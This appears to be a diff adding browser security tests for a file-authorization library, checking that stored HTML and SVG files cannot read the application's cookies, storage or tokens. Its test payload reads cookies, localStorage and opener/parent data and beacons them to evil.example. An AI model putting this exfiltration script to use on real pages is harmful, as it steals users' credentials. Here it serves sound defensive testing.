@@ -1,0 +1,214 @@
+import { describe, expect, it } from 'vitest';
+import { readClaims } from '../../src/shared/token.js';
+import { htmlPage } from '../support/app-server.js';
+import { eachMode } from '../support/each-mode.js';
+import { eachWorld } from '../support/each-world.js';
+import type { TestPage } from '../support/engines/index.js';
+import { blue, fileId, filePath, pdfColour, trap } from '../support/test-files.js';
+import { fileUrl } from '../support/world.js';
+
+/** Besides what the trap does, tells a stranger whatever can be read. */
+const spy = `${trap}
+  const read = (what) => { try { return String(what()); } catch (error) { return error.name; } };
+  const found = [
+    () => location.href,
+    () => document.cookie,
+    () => localStorage.getItem('secret'),
+    () => parent.document.cookie,
+    () => parent.location.href,
+    () => opener.document.cookie,
+    () => opener.location.href,
+    () => document.referrer,
+  ].map(read);
+  new Image().src = 'https://evil.example/home?' + encodeURIComponent(found.join(' | '));
+`;
+const stored = {
+  '.html': `<!doctype html><title>Stored</title><p>Stored</p><script>${spy}</script>`,
+  '.svg': `<svg xmlns="http://www.w3.org/2000/svg"><title>Stored</title><script><![CDATA[${spy}]]></script></svg>`,
+} as const;
+const extensions = ['.html', '.svg'] as const;
+
+/** How somebody comes to open a file in a tab of its own. */
+const ways = ['a link', 'the middle button', 'openFile()'] as const;
+
+const routes = {
+  '/own.html': htmlPage(`<script>${spy}</script>`),
+  '/owned': { body: 'owned' },
+};
+
+eachWorld({ routes }, (world) => {
+  /** What strangers were told, as it was before it became a query. */
+  const told = (): string[] =>
+    world.world.foreignRequests.map((url) => decodeURIComponent(url.replaceAll('+', ' ')));
+  const hideSecrets = async (page: TestPage): Promise<void> => {
+    await page.evaluate(() => {
+      document.cookie = 'secret=of-the-application';
+      localStorage.setItem('secret', 'of-the-application');
+    });
+  };
+  const expectNothingOwned = async (page: TestPage): Promise<void> => {
+    expect(told().join()).not.toContain('of-the-application');
+    expect(world.world.app.requests.filter(({ url }) => url.startsWith('/owned'))).toEqual([]);
+    expect(await page.evaluate(() => [localStorage.getItem('owned'), document.cookie])).toEqual([
+      null,
+      'secret=of-the-application',
+    ]);
+  };
+
+  it("tells a stranger what a page of the application's own can read, so that the next tests mean something", async () => {
+    const { page } = world;
+    await hideSecrets(page);
+    await page.evaluate(() =>
+      document.body.append(Object.assign(document.createElement('iframe'), { src: '/own.html' })),
+    );
+    await expect
+      .poll(told)
+      .toEqual([expect.stringMatching(/secret=of-the-application.* of-the-application .*secret=/)]);
+    // A cookie belongs to the host, and so to the other tests' origins too.
+    await page.evaluate(() => (document.cookie = 'owned=; max-age=0'));
+  });
+
+  eachMode(world, (context) => {
+    describe.each(['file tokens', 'the account only'] as const)('with %s', (tokens) => {
+      const begin = async (rest: keyof typeof stored): Promise<string> => {
+        const { page, world: server } = context;
+        server.replaceCloudFront({ files: { [filePath(blue, 391, rest)]: { body: stored[rest] } } });
+        await context.start({}, tokens);
+        await hideSecrets(page);
+        return fileUrl(blue, 391, rest);
+      };
+      const isSaved = tokens === 'the account only' && context.mode !== 'worker';
+
+      describe.each(extensions)('a stored %s file', (rest) => {
+        it.for(ways)(
+          'that is opened by %s never runs in the application, and learns no token but its own',
+          async (way, { skip }) => {
+            const { page, mode, world: server } = context;
+            skip(
+              way === 'the middle button' && !server.browser.supports.middleClick,
+              'the driver has no middle button',
+            );
+            const url = await begin(rest);
+            await page.evaluate(addOpener, way, url);
+            const how = way === 'the middle button' ? ({ button: 'middle' } as const) : {};
+            if (isSaved) {
+              await page.click('#opener', how);
+              const name = `${fileId(391)}${rest}`;
+              const file = await server.browser.downloads.waitFor(name, stored[rest].length);
+              expect(file.toString()).toBe(stored[rest]);
+              expect(told()).toEqual([]);
+              return expectNothingOwned(page);
+            }
+            const tab = await page.clickToOpen('#opener', how);
+            await tab.waitFor(() => document.querySelector('title')?.textContent === 'Stored');
+            const [address, origin, owned] = await tab.evaluate(() => [
+              document.URL,
+              window.origin,
+              document.documentElement.getAttribute('data-owned'),
+            ]);
+            if (mode === 'worker') {
+              expect([address, origin, owned]).toEqual([
+                `${server.app.url}/_files${filePath(blue, 391, rest)}`,
+                'null',
+                null,
+              ]);
+              expect(told()).toEqual([]);
+            } else {
+              // It runs where every file of the distribution would, with the token that opens itself.
+              expect([origin, owned]).toEqual([new URL(url).origin, 'yes']);
+              await expect.poll(() => told().length).toBeGreaterThan(0);
+              const found = told().flatMap((text) =>
+                [...text.matchAll(/authorization=([\w.-]+)/g)].map(([, token]) => token!),
+              );
+              expect(found.length).toBeGreaterThan(0);
+              for (const token of found)
+                expect(readClaims(token)).toMatchObject({ files: [`/${blue}/${fileId(391)}`] });
+            }
+            await expectNothingOwned(page);
+            await tab.close();
+          },
+        );
+
+        it('that is downloaded is saved and not shown', async () => {
+          const url = await begin(rest);
+          const { page, world: server } = context;
+          await page.evaluate((address) => window.fileAuth.downloadFile(address), url);
+          const name = `${fileId(391)}${rest}`;
+          expect((await server.browser.downloads.waitFor(name, stored[rest].length)).toString()).toBe(
+            stored[rest],
+          );
+          expect(told()).toEqual([]);
+          await expectNothingOwned(page);
+        });
+
+        it('in a frame never runs, and tells nobody anything', async ({ skip }) => {
+          skip(context.mode !== 'worker', 'virtualUrl() gives an address only where there is a virtual path');
+          const url = await begin(rest);
+          const { page } = context;
+          await page.evaluate((address) => {
+            const src = window.fileAuth.virtualUrl(address)!;
+            return new Promise((resolve) => {
+              const frame = Object.assign(document.createElement('iframe'), { src, onload: resolve });
+              document.body.append(frame);
+            });
+          }, url);
+          const shown = await page.evaluateInFrame('iframe', () => [
+            document.querySelector('title')?.textContent,
+            window.origin,
+            document.documentElement.getAttribute('data-owned'),
+          ]);
+          expect(shown).toEqual(['Stored', 'null', null]);
+          expect(told()).toEqual([]);
+          await expectNothingOwned(page);
+        });
+      });
+    });
+
+    it('says so when the browser takes the tab of a file for a pop-up', async ({ skip }) => {
+      const { page, mode, world: server } = context;
+      skip(mode === 'worker', 'no page is told whether a tab without an opener was opened');
+      skip(server.browser.name !== 'webkit', 'this browser is driven with its blocker of pop-ups off');
+      await context.start();
+      const outcome = await page.evaluate(
+        (url) =>
+          window.fileAuth.openFile(url).then(
+            () => 'opened',
+            ({ code }) => code as string,
+          ),
+        fileUrl(blue, 1),
+      );
+      expect(outcome).toBe('popup-blocked');
+      expect(context.queriesFor(filePath(blue, 1))).toEqual([]);
+    });
+
+    it.each(['object', 'embed'])('shows an image and a PDF in <%s> with an authorized URL', async (name) => {
+      await context.start();
+      const { page } = context;
+      await page.evaluate(addViewer, name, fileUrl(blue, 1), 'image/png');
+      await expect.poll(() => page.colourShare([0, 0, 255])).toBeGreaterThan(0.1);
+      await page.evaluate(addViewer, name, fileUrl(blue, 372, '.pdf'), 'application/pdf');
+      await expect.poll(() => page.colourShare(pdfColour)).toBeGreaterThan(0.1);
+    });
+  });
+});
+
+/** Puts what opens the file into the page. */
+function addOpener(way: string, url: string): void {
+  const opener =
+    way === 'openFile()'
+      ? Object.assign(document.createElement('button'), { onclick: () => void window.fileAuth.openFile(url) })
+      : Object.assign(document.createElement('a'), { href: url, target: '_blank' });
+  document.body.append(Object.assign(opener, { id: 'opener', textContent: 'Open' }));
+}
+
+/** What fills the tab with a file that no worker is asked for. */
+async function addViewer(name: string, url: string, type: string): Promise<void> {
+  document.querySelector('object, embed')?.remove();
+  const address = await window.fileAuth.authorizeUrl(url);
+  const viewer = Object.assign(document.createElement(name), {
+    type,
+    [name === 'object' ? 'data' : 'src']: address,
+  });
+  Object.assign(viewer.style, { position: 'fixed', inset: '0', width: '100%', height: '100%' });
+  document.body.append(viewer);
+}
